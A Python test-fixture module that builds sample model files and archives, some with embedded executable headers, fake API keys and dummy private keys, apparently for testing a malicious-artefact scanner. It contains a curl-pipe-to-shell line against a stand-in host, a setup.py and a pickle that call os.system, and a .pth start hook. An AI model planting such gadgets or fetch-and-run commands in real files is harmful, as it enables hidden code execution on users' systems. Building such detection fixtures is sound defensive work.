"""Artefacts with programs and credentials packed into them, and software that holds programs and models honestly.

The name of a malicious file starts with the technique that it is, up to `__`. The programs are heads without a body.
"""

from __future__ import annotations

import base64
import gzip
import io
import json
import marshal
import pickle
import random
import struct
import tarfile
import zipfile
import zlib

ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 3, 62, 1) + bytes(340)
EXE = (
    b"MZ"
    + bytes(58)
    + struct.pack("<I", 128)
    + bytes(64)
    + b"PE\x00\x00"
    + struct.pack("<H", 0x8664)
    + bytes(400)
)
MACH = struct.pack("<IIIIIII", 0xFEEDFACF, 0x01000007, 3, 2, 16, 1024, 0) + bytes(400)
PYC = struct.pack("<H", 3495) + b"\r\n" + bytes(12) + b"\xe3" + bytes(80)
APE = b"MZqFpD='\n" + b"\n" * 20 + b"'\nexec true\n" + bytes(3000)
CODE = marshal.dumps(compile("import os\n", "x", "exec"))
ATTACK = b"#!/bin/sh\ncurl -s http://files.example/a.sh | sh\n"
SCRIPT = b"#!/bin/bash\npython train.py --epochs 3\n"
KEY = "sk-proj-" + "aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5bC7dE9fG1hJ3"
_NUMBERS = random.Random(4).randbytes(4096)
PICKLE = b"\x80\x04\x8c\x02os\x8c\x06system\x93\x8c\x04true\x85R."
_PLAIN = pickle.dumps({"weights": [1.5, 2.5]}, protocol=2)
_STORAGE = (
    b"\x80\x02}X\x01\x00\x00\x00wctorch._utils\n_rebuild_tensor_v2\n((X\x07\x00\x00\x00storagectorch\nFloatStorage\n"
    b"X\x01\x00\x00\x000X\x03\x00\x00\x00cpuK\x04tQK\x00K\x04\x85K\x01\x85\x89ccollections\nOrderedDict\n)RtRs."
)


def zipped(members: dict[str, bytes]) -> bytes:
    """A zip archive; the same bytes each time."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in members.items():
            archive.writestr(zipfile.ZipInfo(name, (2020, 1, 1, 0, 0, 0)), content)
    return out.getvalue()


def tarred(members: dict[str, bytes]) -> bytes:
    """A tar archive."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for name, content in members.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))
    return out.getvalue()


def safetensors(body: bytes = bytes(4)) -> bytes:
    """One tensor of bytes."""
    header = json.dumps({"w": {"dtype": "U8", "shape": [len(body)], "data_offsets": [0, len(body)]}}).encode()
    return struct.pack("<Q", len(header)) + header + body


def array(body: bytes) -> bytes:
    """One array of bytes."""
    head = repr({"descr": "|u1", "fortran_order": False, "shape": (len(body),)}).encode()
    head = head.ljust(117) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(head)) + head + body


def torch_zip(storage: bytes = bytes(16), **extra: bytes) -> bytes:
    """A checkpoint as torch writes it."""
    members = {"archive/data.pkl": _STORAGE, "archive/data/0": storage, "archive/version": b"3\n"}
    return zipped({**members, **{f"archive/{name}": content for name, content in extra.items()}})


def keras(**extra: bytes) -> bytes:
    """A saved model without layers."""
    config = {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": []}}
    members = {
        "metadata.json": json.dumps({"keras_version": "3.0.0", "date_saved": "2024-01-01"}).encode(),
        "config.json": json.dumps(config).encode(),
    }
    return zipped({**members, **extra})


def nemo(**extra: bytes) -> bytes:
    """A checkpoint with its configuration."""
    members = {
        "./model_config.yaml": b"name: small\nsample_rate: 16000\n",
        "./model_weights.ckpt": torch_zip(),
    }
    return tarred({**members, **extra})


def mar(**extra: bytes) -> bytes:
    """An archive for a model server."""
    manifest = {
        "runtime": "python",
        "model": {"modelName": "m", "serializedFile": "m.pt", "handler": "image_classifier"},
    }
    return zipped({"MAR-INF/MANIFEST.json": json.dumps(manifest).encode(), "m.pt": torch_zip(), **extra})


def _gguf() -> bytes:
    return b"GGUF" + struct.pack("<IQQ", 3, 0, 0) + bytes(8)


def gguf_text(*texts: tuple[str, str | list[str]]) -> bytes:
    """Metadata alone; a list becomes an array of texts."""

    def text(value: str) -> bytes:
        return struct.pack("<Q", len(value.encode())) + value.encode()

    out = b"GGUF" + struct.pack("<IQQ", 3, 0, len(texts))
    for key, value in texts:
        out += text(key)
        if isinstance(value, str):
            out += struct.pack("<I", 8) + text(value)
        else:
            out += struct.pack("<IIQ", 9, 8, len(value)) + b"".join(map(text, value))
    return out + bytes(32)


def private_key(title: str = "RSA PRIVATE KEY") -> str:
    """What looks like a private key, and opens nothing."""
    start = b"openssh-key-v1\x00" if "OPENSSH" in title else b"\x30\x82\x04\xa2"
    body = base64.b64encode(start + random.Random(11).randbytes(1200)).decode()
    lines = "\n".join(body[at : at + 64] for at in range(0, len(body), 64))
    return f"-----BEGIN {title}-----\n{lines}\n-----END {title}-----\n"


def _boosted(attribute: str) -> bytes:
    """A model of XGBoost with an attribute."""
    return json.dumps({
        "learner": {
            "attributes": {"note": attribute}, "gradient_booster": {"name": "gbtree", "model": {}},
            "learner_model_param": {},
        },
        "version": [2, 0, 0],
    }).encode()  # fmt: skip


def _attached(content: bytes) -> bytes:
    """A notebook with something attached to a cell."""
    text = base64.b64encode(content).decode()
    cell = {"cell_type": "markdown", "metadata": {}, "source": ["![a](attachment:a)"]}
    return json.dumps({
        "cells": [{**cell, "attachments": {"a": {"application/octet-stream": text}}}],
        "metadata": {}, "nbformat": 4, "nbformat_minor": 5,
    }).encode()  # fmt: skip


def text_array(text: str) -> bytes:
    """One array of one text, four bytes for each letter."""
    head = repr({"descr": f"<U{len(text)}", "fortran_order": False, "shape": ()}).encode()
    head = head.ljust(117) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(head)) + head + text.encode("utf-32-le")


def malicious() -> dict[str, bytes]:
    """Name to content; the name starts with the technique."""
    page = json.dumps({
        "cells": [{"cell_type": "code", "source": [], "outputs": [{"output_type": "stream", "text": [f"token={KEY}"]}]}],
        "metadata": {}, "nbformat": 4, "nbformat_minor": 5,
    }).encode()  # fmt: skip
    exe, sec, dis, ser = (
        "embedded-executable__", "embedded-secret__", "disguised-format__", "serialised-code__",
    )  # fmt: skip
    return {
        f"{exe}member.pt": torch_zip(**{"extra/run": ELF}),
        f"{exe}storage.pt": torch_zip(ELF),
        f"{exe}windows.pt": torch_zip(**{"extra/a.bin": EXE}),
        f"{exe}script.pt": torch_zip(**{"extra/a": ATTACK}),
        f"{exe}bytecode.pt": torch_zip(**{"extra/a.pyc": PYC}),
        f"{exe}mach.keras": keras(**{"assets/a": MACH}),
        f"{exe}batch.keras": keras(**{"assets/a.bat": b"@echo off\r\nstart calc\r\n"}),
        f"{exe}plain.npz": zipped({"a.npy": array(bytes(8)), "b": ELF}),
        f"{exe}checkpoint.nemo": nemo(**{"./helper": ELF}),
        f"{exe}server.mar": mar(helper=ELF),
        f"{exe}script.mar": mar(**{"setup.sh": ATTACK}),
        f"{exe}beside.zip": zipped(
            {"model.safetensors": safetensors(), "README.md": b"# m\n", "update": ELF}
        ),
        f"{exe}beside.tar": tarred({"model.pt": torch_zip(), "update.exe": EXE}),
        f"{exe}start.tar.gz": gzip.compress(tarred({"m.pkl": _PLAIN, "run.sh": ATTACK}), mtime=0),
        f"{exe}behind.pkl": _PLAIN + ELF,
        f"{exe}behind_windows.pkl": _PLAIN + EXE,
        f"{exe}behind_mach.pkl": _PLAIN + MACH,
        f"{exe}behind.gguf": _gguf() + ELF,
        f"{exe}behind.joblib": zlib.compress(_PLAIN) + ELF,
        f"{exe}behind.pkl.gz": gzip.compress(_PLAIN, mtime=0) + ELF,
        "hidden-data__behind.gguf": _gguf() + bytes(32) + PICKLE,
        "hidden-data__bytes.msgpack": b"\x81\xa1a\xc4" + bytes([len(PICKLE)]) + PICKLE,
        "hidden-data__behind.npy": array(_NUMBERS) + PICKLE,
        f"{exe}library.npz": zipped({"a.npy": array(bytes(8)), "lib/a.so": ELF}),
        f"{dis}tokenizer.json": b"#!/usr/bin/env python3\nimport os\n",
        "dangerous-source__sdist.tar.gz": gzip.compress(
            tarred({"a-1/setup.py": b"import os\nos.system('curl -s http://files.example/a | sh')\n"}),
            mtime=0,
        ),
        "dangerous-source__start.whl": zipped(
            {"x.pth": b"import os; os.system('true')\n", "x-1.dist-info/METADATA": b"Name: x\n"}
        ),
        "hidden-data__attribute.json": _boosted(base64.b64encode(PICKLE).decode()),
        "hidden-data__attachment.ipynb": _attached(PICKLE),
        f"{exe}inside.npy": array(ELF),
        f"{exe}far_behind.npy": array(bytes(6 * 1024**2) + ELF + bytes(4096)),
        f"{dis}elf.pt": ELF,
        f"{dis}elf.bin": ELF,
        f"{dis}bytecode.bin": PYC,
        f"{dis}windows.msgpack": EXE,
        f"{dis}portable.onnx": APE,
        f"{exe}elf.llamafile": ELF,
        f"{exe}portable.llamafile": APE,
        f"{ser}code.bin": CODE,
        f"{ser}code": CODE,
        f"{dis}windows.h5": EXE,
        f"{dis}script.pkl": ATTACK,
        f"{dis}picture.png": ELF,
        f"{dis}rows.csv": EXE,
        f"{dis}weights.dat": ELF,
        f"{sec}config.nemo": nemo(**{"./notes.txt": f"api_key = '{KEY}'\n".encode()}),
        f"{sec}metadata.keras": keras(**{"assets/hub.txt": f"token: {KEY}\n".encode()}),
        f"{sec}covered.keras": keras(
            **{"metadata.json": json.dumps({"keras_version": "3.0.0", "token": KEY}).encode()}
        ),
        f"{sec}beside.zip": zipped(
            {"model.safetensors": safetensors(), "push.py": f"token = '{KEY}'\n".encode()}
        ),
        f"{sec}value.pkl": b"\x80\x02}X\x05\x00\x00\x00tokenX"
        + struct.pack("<I", len(KEY))
        + KEY.encode()
        + b"s.",
        f"{sec}output.ipynb": page,
        f"{sec}packed.joblib": gzip.compress(pickle.dumps({"w": _NUMBERS, "k": private_key()}), mtime=0),
        f"{sec}array.npz": zipped({"w.npy": array(bytes(8)), "k.npy": text_array(private_key())}),
        f"{sec}metadata.gguf": gguf_text(("general.name", "m"), ("general.note", f"pushed with {KEY}")),
        f"{sec}array.gguf": gguf_text(("general.tags", ["text", f"key={KEY}"])),
        f"{sec}key.zip": zipped({"model/config.json": b"{}", "model/id_rsa": private_key().encode()}),
        f"{sec}ssh.tar.gz": gzip.compress(
            tarred({"m/.ssh/id_ed25519": private_key("OPENSSH PRIVATE KEY").encode()}), mtime=0
        ),
    }


def benign() -> dict[str, bytes]:
    """Name to content."""
    wheel = {
        "lib/_core.so": ELF,
        "lib/data/t.npz": zipped({"a.npy": array(bytes(8))}),
        "lib/data/m.pkl": _PLAIN,
        "lib/tests/config.txt": f"token = '{KEY}'\n".encode(),
        "lib-1.0.dist-info/WHEEL": b"Wheel-Version: 1.0\nRoot-Is-Purelib: false\n",
        "lib-1.0.dist-info/METADATA": b"Metadata-Version: 2.1\nName: lib\nVersion: 1.0\n",
        "lib-1.0.dist-info/RECORD": b"",
    }
    return {
        "objects.dat": _PLAIN,
        "data_behind.gguf": _gguf() + bytes(32) + _PLAIN,
        "numbers.pt": torch_zip(_NUMBERS),
        "numbers.npy": array(_NUMBERS * 300),
        "library.so": ELF,
        "tool": ELF,
        "module.cpython-311.pyc": PYC,
        "text.bin": b"code\n" * 40,
        "numbers.bin": b"\xe3" + _NUMBERS,
        "counts.bin": b"c" + bytes(4000),
        "heads_without_fields.npy": array(
            b"\x7fELF" * 500 + b"MZ" * 500 + b"\xcf\xfa\xed\xfe" * 500 + b"PE\x00\x00" * 500
        ),
        "numbers.pkl": pickle.dumps({"w": _NUMBERS}),
        "lib-1.0-cp311-cp311-linux_x86_64.whl": zipped(wheel),
        "app.jar": zipped(
            {
                "META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\n",
                "native/a": ELF,
                "m.onnx": b"",
                "m.pkl": _PLAIN,
            }
        ),
        "app.apk": zipped(
            {"AndroidManifest.xml": b"\x03\x00\x08\x00", "lib/arm64-v8a/a.so": ELF, "assets/m.pkl": _PLAIN}
        ),
        "speech.tar.gz": gzip.compress(
            tarred({"speak": ELF, "libonnx.so.1": ELF, "libspeak.so": ELF, "voice.pkl": _PLAIN}), mtime=0
        ),
        "compiled.tar": tarred({"lib0.o": ELF, "graph.json": b"{}", "params.pkl": _PLAIN}),
        "tools.zip": zipped({"tool": ELF, "README.md": b"# tool\n"}),
        "project.zip": zipped(
            {"model.safetensors": safetensors(), "train.sh": SCRIPT, "train.py": b"import os\n"}
        ),
        "served.mar": mar(
            **{"setup.sh": SCRIPT, "handler.py": b"x = 1\n", "__pycache__/handler.cpython-311.pyc": PYC}
        ),
        "image.tar": tarred({"usr/bin/tool": ELF, "root/m.pkl": _PLAIN}),
        "clean.keras": keras(),
        "clean.nemo": nemo(),
        "clean.gguf": _gguf(),
        "a-1.tar.gz": gzip.compress(
            tarred(
                {
                    "a-1/setup.py": b"import subprocess\nfrom setuptools import setup\nexec(open('v.py').read())\n"
                    b"subprocess.run(['cmake', '.'])\nsetup()\n"
                }
            ),
            mtime=0,
        ),
        "attribute.json": _boosted(base64.b64encode(_PLAIN).decode()),
        "attachment.ipynb": _attached(_PLAIN),
        "words.gguf": gguf_text(("tokenizer.ggml.tokens", ["hf_", "sk-", "AKIA", "password", "-----BEGIN"])),
        "public.zip": zipped(
            {"model/config.json": b"{}", "model/key.pub": b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 a@b\n"}
        ),
        "certificate.joblib": gzip.compress(pickle.dumps({"c": private_key("CERTIFICATE")}), mtime=0),
        "names.npz": zipped({"n.npy": text_array("setosa versicolor virginica " * 20)}),
        "notes.txt": b"plain words\n",
    }
